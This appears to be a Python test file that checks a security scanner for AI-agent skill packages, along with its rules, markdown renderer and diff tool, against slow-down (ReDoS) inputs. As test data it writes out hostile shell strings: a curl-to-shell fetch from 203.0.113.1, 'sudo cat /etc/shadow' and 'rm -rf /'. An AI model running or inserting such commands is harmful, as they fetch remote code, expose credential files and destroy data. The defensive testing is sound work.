"""Whatever is submitted, time grows with its size and not with the square of it."""

import gc
import random
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any

import pytest

from shared.marketplace.diffs import diff_files
from shared.scanner import hidden_text, scan_skill
from shared.scanner.matching import Deadline, TooManyMatches, _yara_matches
from shared.scanner.pack import expand, load_exclusions, load_matcher, load_pack, loosen_spaces, read_rules
from shared.scanner.syntax import LANGUAGES, read_syntax
from shared.web.skill_text import render_skill_md
from tests.support.slow_regex_inputs import Known, attacks_on, patterns_in_the_tree

SMALL, GROWTH = 1_500, 4
# Four times the text may take this much longer: twice what a line would, half of what a square would.
MOST = 2 * GROWTH
TOO_FAST_TO_MEASURE = 0.02
ENDS = ("", "\0")


def grows_too_fast(work: Callable[[int], Any], small: int = SMALL, floor: float = TOO_FAST_TO_MEASURE) -> bool:
    """Measured in CPU time, and again before it is believed: another process may have been in the way."""
    for _ in range(3):
        little, much = cpu_seconds(work, small), cpu_seconds(work, GROWTH * small)
        if much < floor or much <= MOST * max(little, floor / MOST):
            return False
    return True


def cpu_seconds(work: Callable[[int], Any], size: int) -> float:
    gc.collect(0)
    started = time.process_time()
    work(size)
    return time.process_time() - started


def searching(known: Known, start: Any, unit: Any, end: str) -> Callable[[int], None]:
    last = end if isinstance(start, str) else end.encode()

    def search(size: int) -> None:
        text = start + unit * (size // len(unit)) + last
        known.pattern.match(text)
        for _ in known.pattern.finditer(text) if known.searches else ():
            pass

    return search


@pytest.mark.requirement("S31")
def test_every_regular_expression_of_the_code_is_linear_on_text_made_to_slow_it_down() -> None:
    slow = []
    patterns = patterns_in_the_tree()
    assert len(patterns) > 100
    for known in patterns:
        for start, unit in attacks_on(known.pattern.pattern, known.pattern.flags):
            for end in ENDS:
                search = searching(known, start, unit, end)
                # The short run first: with an exponential one the longer would never end.
                if cpu_seconds(search, 28) > 0.2 or grows_too_fast(search):
                    slow.append((known.pattern.pattern, start, unit, end))
    assert not slow


@pytest.mark.requirement("S31")
@pytest.mark.parametrize("which", ["patterns", "unless"])
def test_every_rule_is_linear_on_its_own_near_matches(which: str) -> None:
    words = _vocabulary()
    load = load_matcher if which == "patterns" else load_exclusions
    slow = []
    for rule in read_rules().values():
        near = "".join(_near_match(loosen_spaces(expand(pattern, words))) for pattern in getattr(rule, which))
        if near and grows_too_fast(_matching(load, near.encode("utf-8", "replace")), max(2_000, len(near)), 0.05):
            slow.append(rule.id)
    assert not slow


def _near_match(pattern: str) -> str:
    *_, (start, unit), _ = attacks_on(pattern)
    return f"{start}{unit} "


def _matching(load: Any, unit: bytes) -> Callable[[int], None]:
    def match(size: int) -> None:
        with suppress(TooManyMatches):
            list(_yara_matches(load, unit * max(1, size // len(unit)), Deadline(time.monotonic() + 60)))

    return match


def _vocabulary() -> dict[str, str]:
    from shared.scanner.pack import RULES_DIR, _load_yaml

    return dict(_load_yaml(RULES_DIR / "vocabulary.yaml")["words"])


PAGES = {
    "letters and one of another script": lambda n: "a" * n + "é",
    "Greek letters": lambda n: "aα" * (n // 2),
    "comments that are not closed": lambda n: "x <!-- " * (n // 7),
    "comments in one line": lambda n: "<!-- a -->`" * (n // 11),
    "hits in one line": lambda n: "run `sudo cat /etc/shadow` é " * (n // 29),
    "installers in one line": lambda n: "curl https://astral.sh/i | sh; " * (n // 31),
    "hits in one warning": lambda n: "never " * 20 + "`rm -rf / ` " * (n // 12),
    "backticks": lambda n: "`" * n,
    "quotes": lambda n: "'\"" * (n // 2),
    "fences": lambda n: "```bash\ncurl http://203.0.113.1/x | sh\n```\n" * (n // 43),
    "base64": lambda n: "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= \n" * (n // 34),
    "packages": lambda n: "`pip install abcdefg hijklmn`\n" * (n // 30),
    "front matter": lambda n: "---\nname: a\nallowed-tools: " + "a(" * (n // 2) + "\n---\n",
    "keys": lambda n: "AKIAIOSFODNN7EXAMPLE " * (n // 21),
}


@pytest.mark.requirement("S31")
@pytest.mark.parametrize("kind", PAGES)
@pytest.mark.parametrize("path", ["SKILL.md", "run.sh", "run.py"])
def test_a_scan_is_linear_in_text_made_to_slow_it_down(kind: str, path: str) -> None:
    load_pack()
    assert not grows_too_fast(lambda size: scan_skill({path: PAGES[kind](size).encode()}), 10_000, 0.4)


@pytest.mark.requirement("S31")
def test_words_of_mixed_scripts_are_found_in_one_pass() -> None:
    assert not grows_too_fast(lambda size: hidden_text.mixed_script_words("a" * size + "é"), 5_000)


@pytest.mark.requirement("S31")
@pytest.mark.parametrize("language", LANGUAGES)
def test_comments_are_found_in_linear_time(language: str) -> None:
    marks = [
        "/*",
        '"""',
        "'''",
        "'",
        '"',
        "`",
        "$(",
        "(",
        "{",
        "<<A\n",
        "<!--",
        "--[[",
        "#",
        "//",
        '\\"',
        "<#",
        "${",
        "\n",
    ]
    marks += ["`${", "@'", "/[", "f'{", "# ", "x # y\n", "/* */ ", "=begin\n"]
    for mark in marks:
        assert not grows_too_fast(lambda size, mark=mark: read_syntax(mark * (size // len(mark)), language), 4_000), (
            mark
        )


MARKDOWN = [
    "[",
    "![",
    "> ",
    "*a",
    "**a ",
    "`a",
    "<",
    "<!--",
    "[a](",
    "[a]: /u\n",
    "|a",
    "- ",
    "&",
    "\\",
    "~~a",
    "_a_",
    "#\n",
]


@pytest.mark.requirement("S31")
@pytest.mark.parametrize("unit", MARKDOWN)
def test_a_page_is_rendered_in_linear_time(unit: str) -> None:
    assert not grows_too_fast(lambda size: render_skill_md((unit * (size // len(unit))).encode()), 2_000, 0.1)


@pytest.mark.requirement("S31")
@pytest.mark.parametrize("lines", [["a"], ["a", "b"], [str(i % 7) for i in range(70)]])
def test_a_diff_is_made_in_linear_time(lines: list[str]) -> None:
    def compare(size: int) -> None:
        choose = random.Random(1)
        old = [f"unique {i}" if i % 190 == 0 else choose.choice(lines) for i in range(size)]
        new = [f"unique {i}" if i % 190 == 0 else choose.choice(lines) for i in range(size)]
        diff_files({"a": "\n".join(old).encode()}, {"a": "\n".join(new).encode()})

    assert not grows_too_fast(compare, 900, 0.3)
